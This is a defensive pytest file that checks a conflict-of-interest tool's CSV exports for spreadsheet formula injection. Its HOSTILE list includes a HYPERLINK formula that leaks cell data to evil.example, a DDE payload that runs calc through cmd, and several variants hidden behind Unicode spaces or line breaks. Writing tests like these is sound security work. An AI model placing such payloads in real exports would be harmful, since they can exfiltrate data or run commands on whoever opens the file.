"""Formula injection: no cell of any CSV the tool writes for people runs in a spreadsheet.

Every exported column gets every hostile value (OWASP's = + - @ tab CR, after leading
spaces, and after a , or ; where Dutch or English Excel cuts a value into cells), through
the real writers: ``findings.csv`` from a scan's ``write_findings``, and ``coi cases --csv``,
a case's history and ``coi accept --list --csv`` on a real SQLite workspace.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from coi_graph.cli import main
from coi_graph.export_cells import FORMULA_START, NUMERIC_COLUMNS, safe_cell
from coi_graph.findings import CSV_COLUMNS, EvidencePath, Finding, Step, write_findings
from coi_graph.outputs.workspace import record_run_folder

HOSTILE = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "  =1+1", "\u00a0-2+3",
    "Jansen;=HYPERLINK(\"http://evil.example/?\"&A1)", "Jansen,=1+1", "a; @SUM(1)",
    "=cmd|' /C calc'!A0", "-", "x;\t=1+1",
    # red-team 18: after a line break in the value (a reader that does not keep a quoted
    # value's lines together starts a row there), and after the other Unicode spaces and
    # the invisible ones
    "Jansen\n=HYPERLINK(\"http://evil.example/?\"&A1)", "a\n\n@SUM(1)", "a\n -1+1",
    "\u202f=1+1", "\ufeff=1+1", "\u205f+1", "\u2060@SUM(1)", "x;\u1680=1",
]
SPACES = (" \u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a"
          "\u200b\u202f\u205f\u2060\u3000\ufeff")


def runs_as_formula(cell: str) -> bool:
    """Would a spreadsheet run this cell, or any part of it that a , or ; cuts off?"""
    parts = [cell]
    for sep in (",", ";"):
        parts = [q for p in parts for q in p.split(sep)]
    for i, part in enumerate(parts):
        if part[:1] in ("\t", "\r", "\n"):
            return True
        # each line of a value, for a reader that does not keep them together
        if any(runs_as_formula(line) for line in re.split(r"\r\n?|\n", part)[1:] if line):
            return True
        visible = part.lstrip(SPACES)
        if visible[:1] in FORMULA_START and not visible.startswith("'"):
            return True
    return False


def test_the_check_itself_catches_what_it_should() -> None:
    # the checker must fail the raw hostile values, or the tests below prove nothing
    assert all(runs_as_formula(v) for v in HOSTILE)
    assert not any(runs_as_formula(safe_cell(v)) for v in HOSTILE)
    assert not runs_as_formula("Jansen, Piet; afdeling Wonen")


def hostile_finding(i: int, value: str) -> Finding:
    path = EvidencePath(
        nodes=[{"key": f"employee:{value}", "kind": "employee", "label": value},
               {"key": f"organization:{value}", "kind": "organization", "label": value}],
        steps=[Step(f"employee:{value}", f"organization:{value}", "interest", value,
                    evidence=[value, f"{value};{value}"])])
    return Finding(
        finding_id=f"F-{i:016x}", rule=value, severity=value, score=-5 if i % 2 else 7,
        decision_id=value, record=value, subject_id=value, counterparty=value, path=path,
        subject_role=value, subject_name=value, subject_department=value,
        counterparty_name=value, decision_kind=value, decision_date=value,
        amount_eur=-5.0 if i % 2 else 1234.5, articles=[value, value], evidence_hash=value)


def read_cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_findings_csv_every_column(tmp_path: Path) -> None:
    findings = [hostile_finding(i, v) for i, v in enumerate(HOSTILE)]
    csv_path, _ = write_findings(findings, tmp_path)
    rows = read_cells(csv_path.read_text(encoding="utf-8"))
    assert len(rows) == len(HOSTILE) and list(rows[0]) == CSV_COLUMNS
    checked = 0
    for row in rows:
        for col, cell in row.items():
            if col in ("score", "amount_eur"):
                float(cell)  # numbers stay numbers, also negative ones
                continue
            assert not runs_as_formula(cell), (col, cell)
            checked += 1
    assert checked == len(HOSTILE) * (len(CSV_COLUMNS) - 2)
    # the value is still there behind the quote: nothing is lost
    by_id = {r["finding_id"]: r for r in rows}
    assert by_id[f"F-{0:016x}"]["subject_name"] == "'=1+1"
    assert by_id[f"F-{1:016x}"]["amount_eur"] == "-5.00"
    assert by_id[f"F-{8:016x}"]["counterparty_name"].startswith("Jansen;'=HYPERLINK")


@pytest.fixture
def hostile_workspace(tmp_path: Path) -> tuple[Path, list[str]]:
    run = tmp_path / "run"
    findings = [hostile_finding(i, v) for i, v in enumerate(HOSTILE)]
    write_findings(findings, run)
    (run / "run.json").write_text(json.dumps({"tool": "coi-graph", "as_of": "2024-12-31",
                                              "finished_at": "2025-01-02T10:00:00+00:00"}),
                                  encoding="utf-8")
    ws = tmp_path / "ws.sqlite"
    record_run_folder(run, ws)
    return ws, [f.finding_id for f in findings]


def _run(args: list[str]) -> str:
    res = CliRunner().invoke(main, args, catch_exceptions=False)
    assert res.exit_code == 0, res.output
    return res.output


def test_cli_csv_exports_every_column(hostile_workspace: tuple[Path, list[str]]) -> None:
    ws, ids = hostile_workspace
    for fid, value in zip(ids, HOSTILE):
        _run(["triage", fid, "--status", "explained", "--note", value, "--by", value,
              "--workspace", str(ws)])
    for value in HOSTILE[:4]:
        _run(["accept", "--employee", value, "--org", value, "--justification", value,
              "--owner", value, "--until", "2099-12-31", "--by", value, "--workspace", str(ws)])
    outputs: dict[str, str] = {
        "cases": _run(["cases", "--csv", "--workspace", str(ws)]),
        "cases --all": _run(["cases", "--all", "--csv", "--workspace", str(ws)]),
        "history": _run(["cases", ids[0], "--csv", "--workspace", str(ws)]),
        "accept --list": _run(["accept", "--list", "--csv", "--workspace", str(ws)]),
    }
    for name, text in outputs.items():
        rows = read_cells(text)
        assert rows, name
        hostile_cells = 0
        for row in rows:
            for col, cell in row.items():
                if col in NUMERIC_COLUMNS and re.fullmatch(r"-?\d+(\.\d+)?", cell or ""):
                    continue  # a number is read as a number, never as a formula
                assert not runs_as_formula(cell or ""), (name, col, cell)
                hostile_cells += any(v.strip(SPACES + "\t\r\n")[:6] in (cell or "")
                                     for v in HOSTILE)
        assert hostile_cells > len(rows), name  # the payloads did reach these files
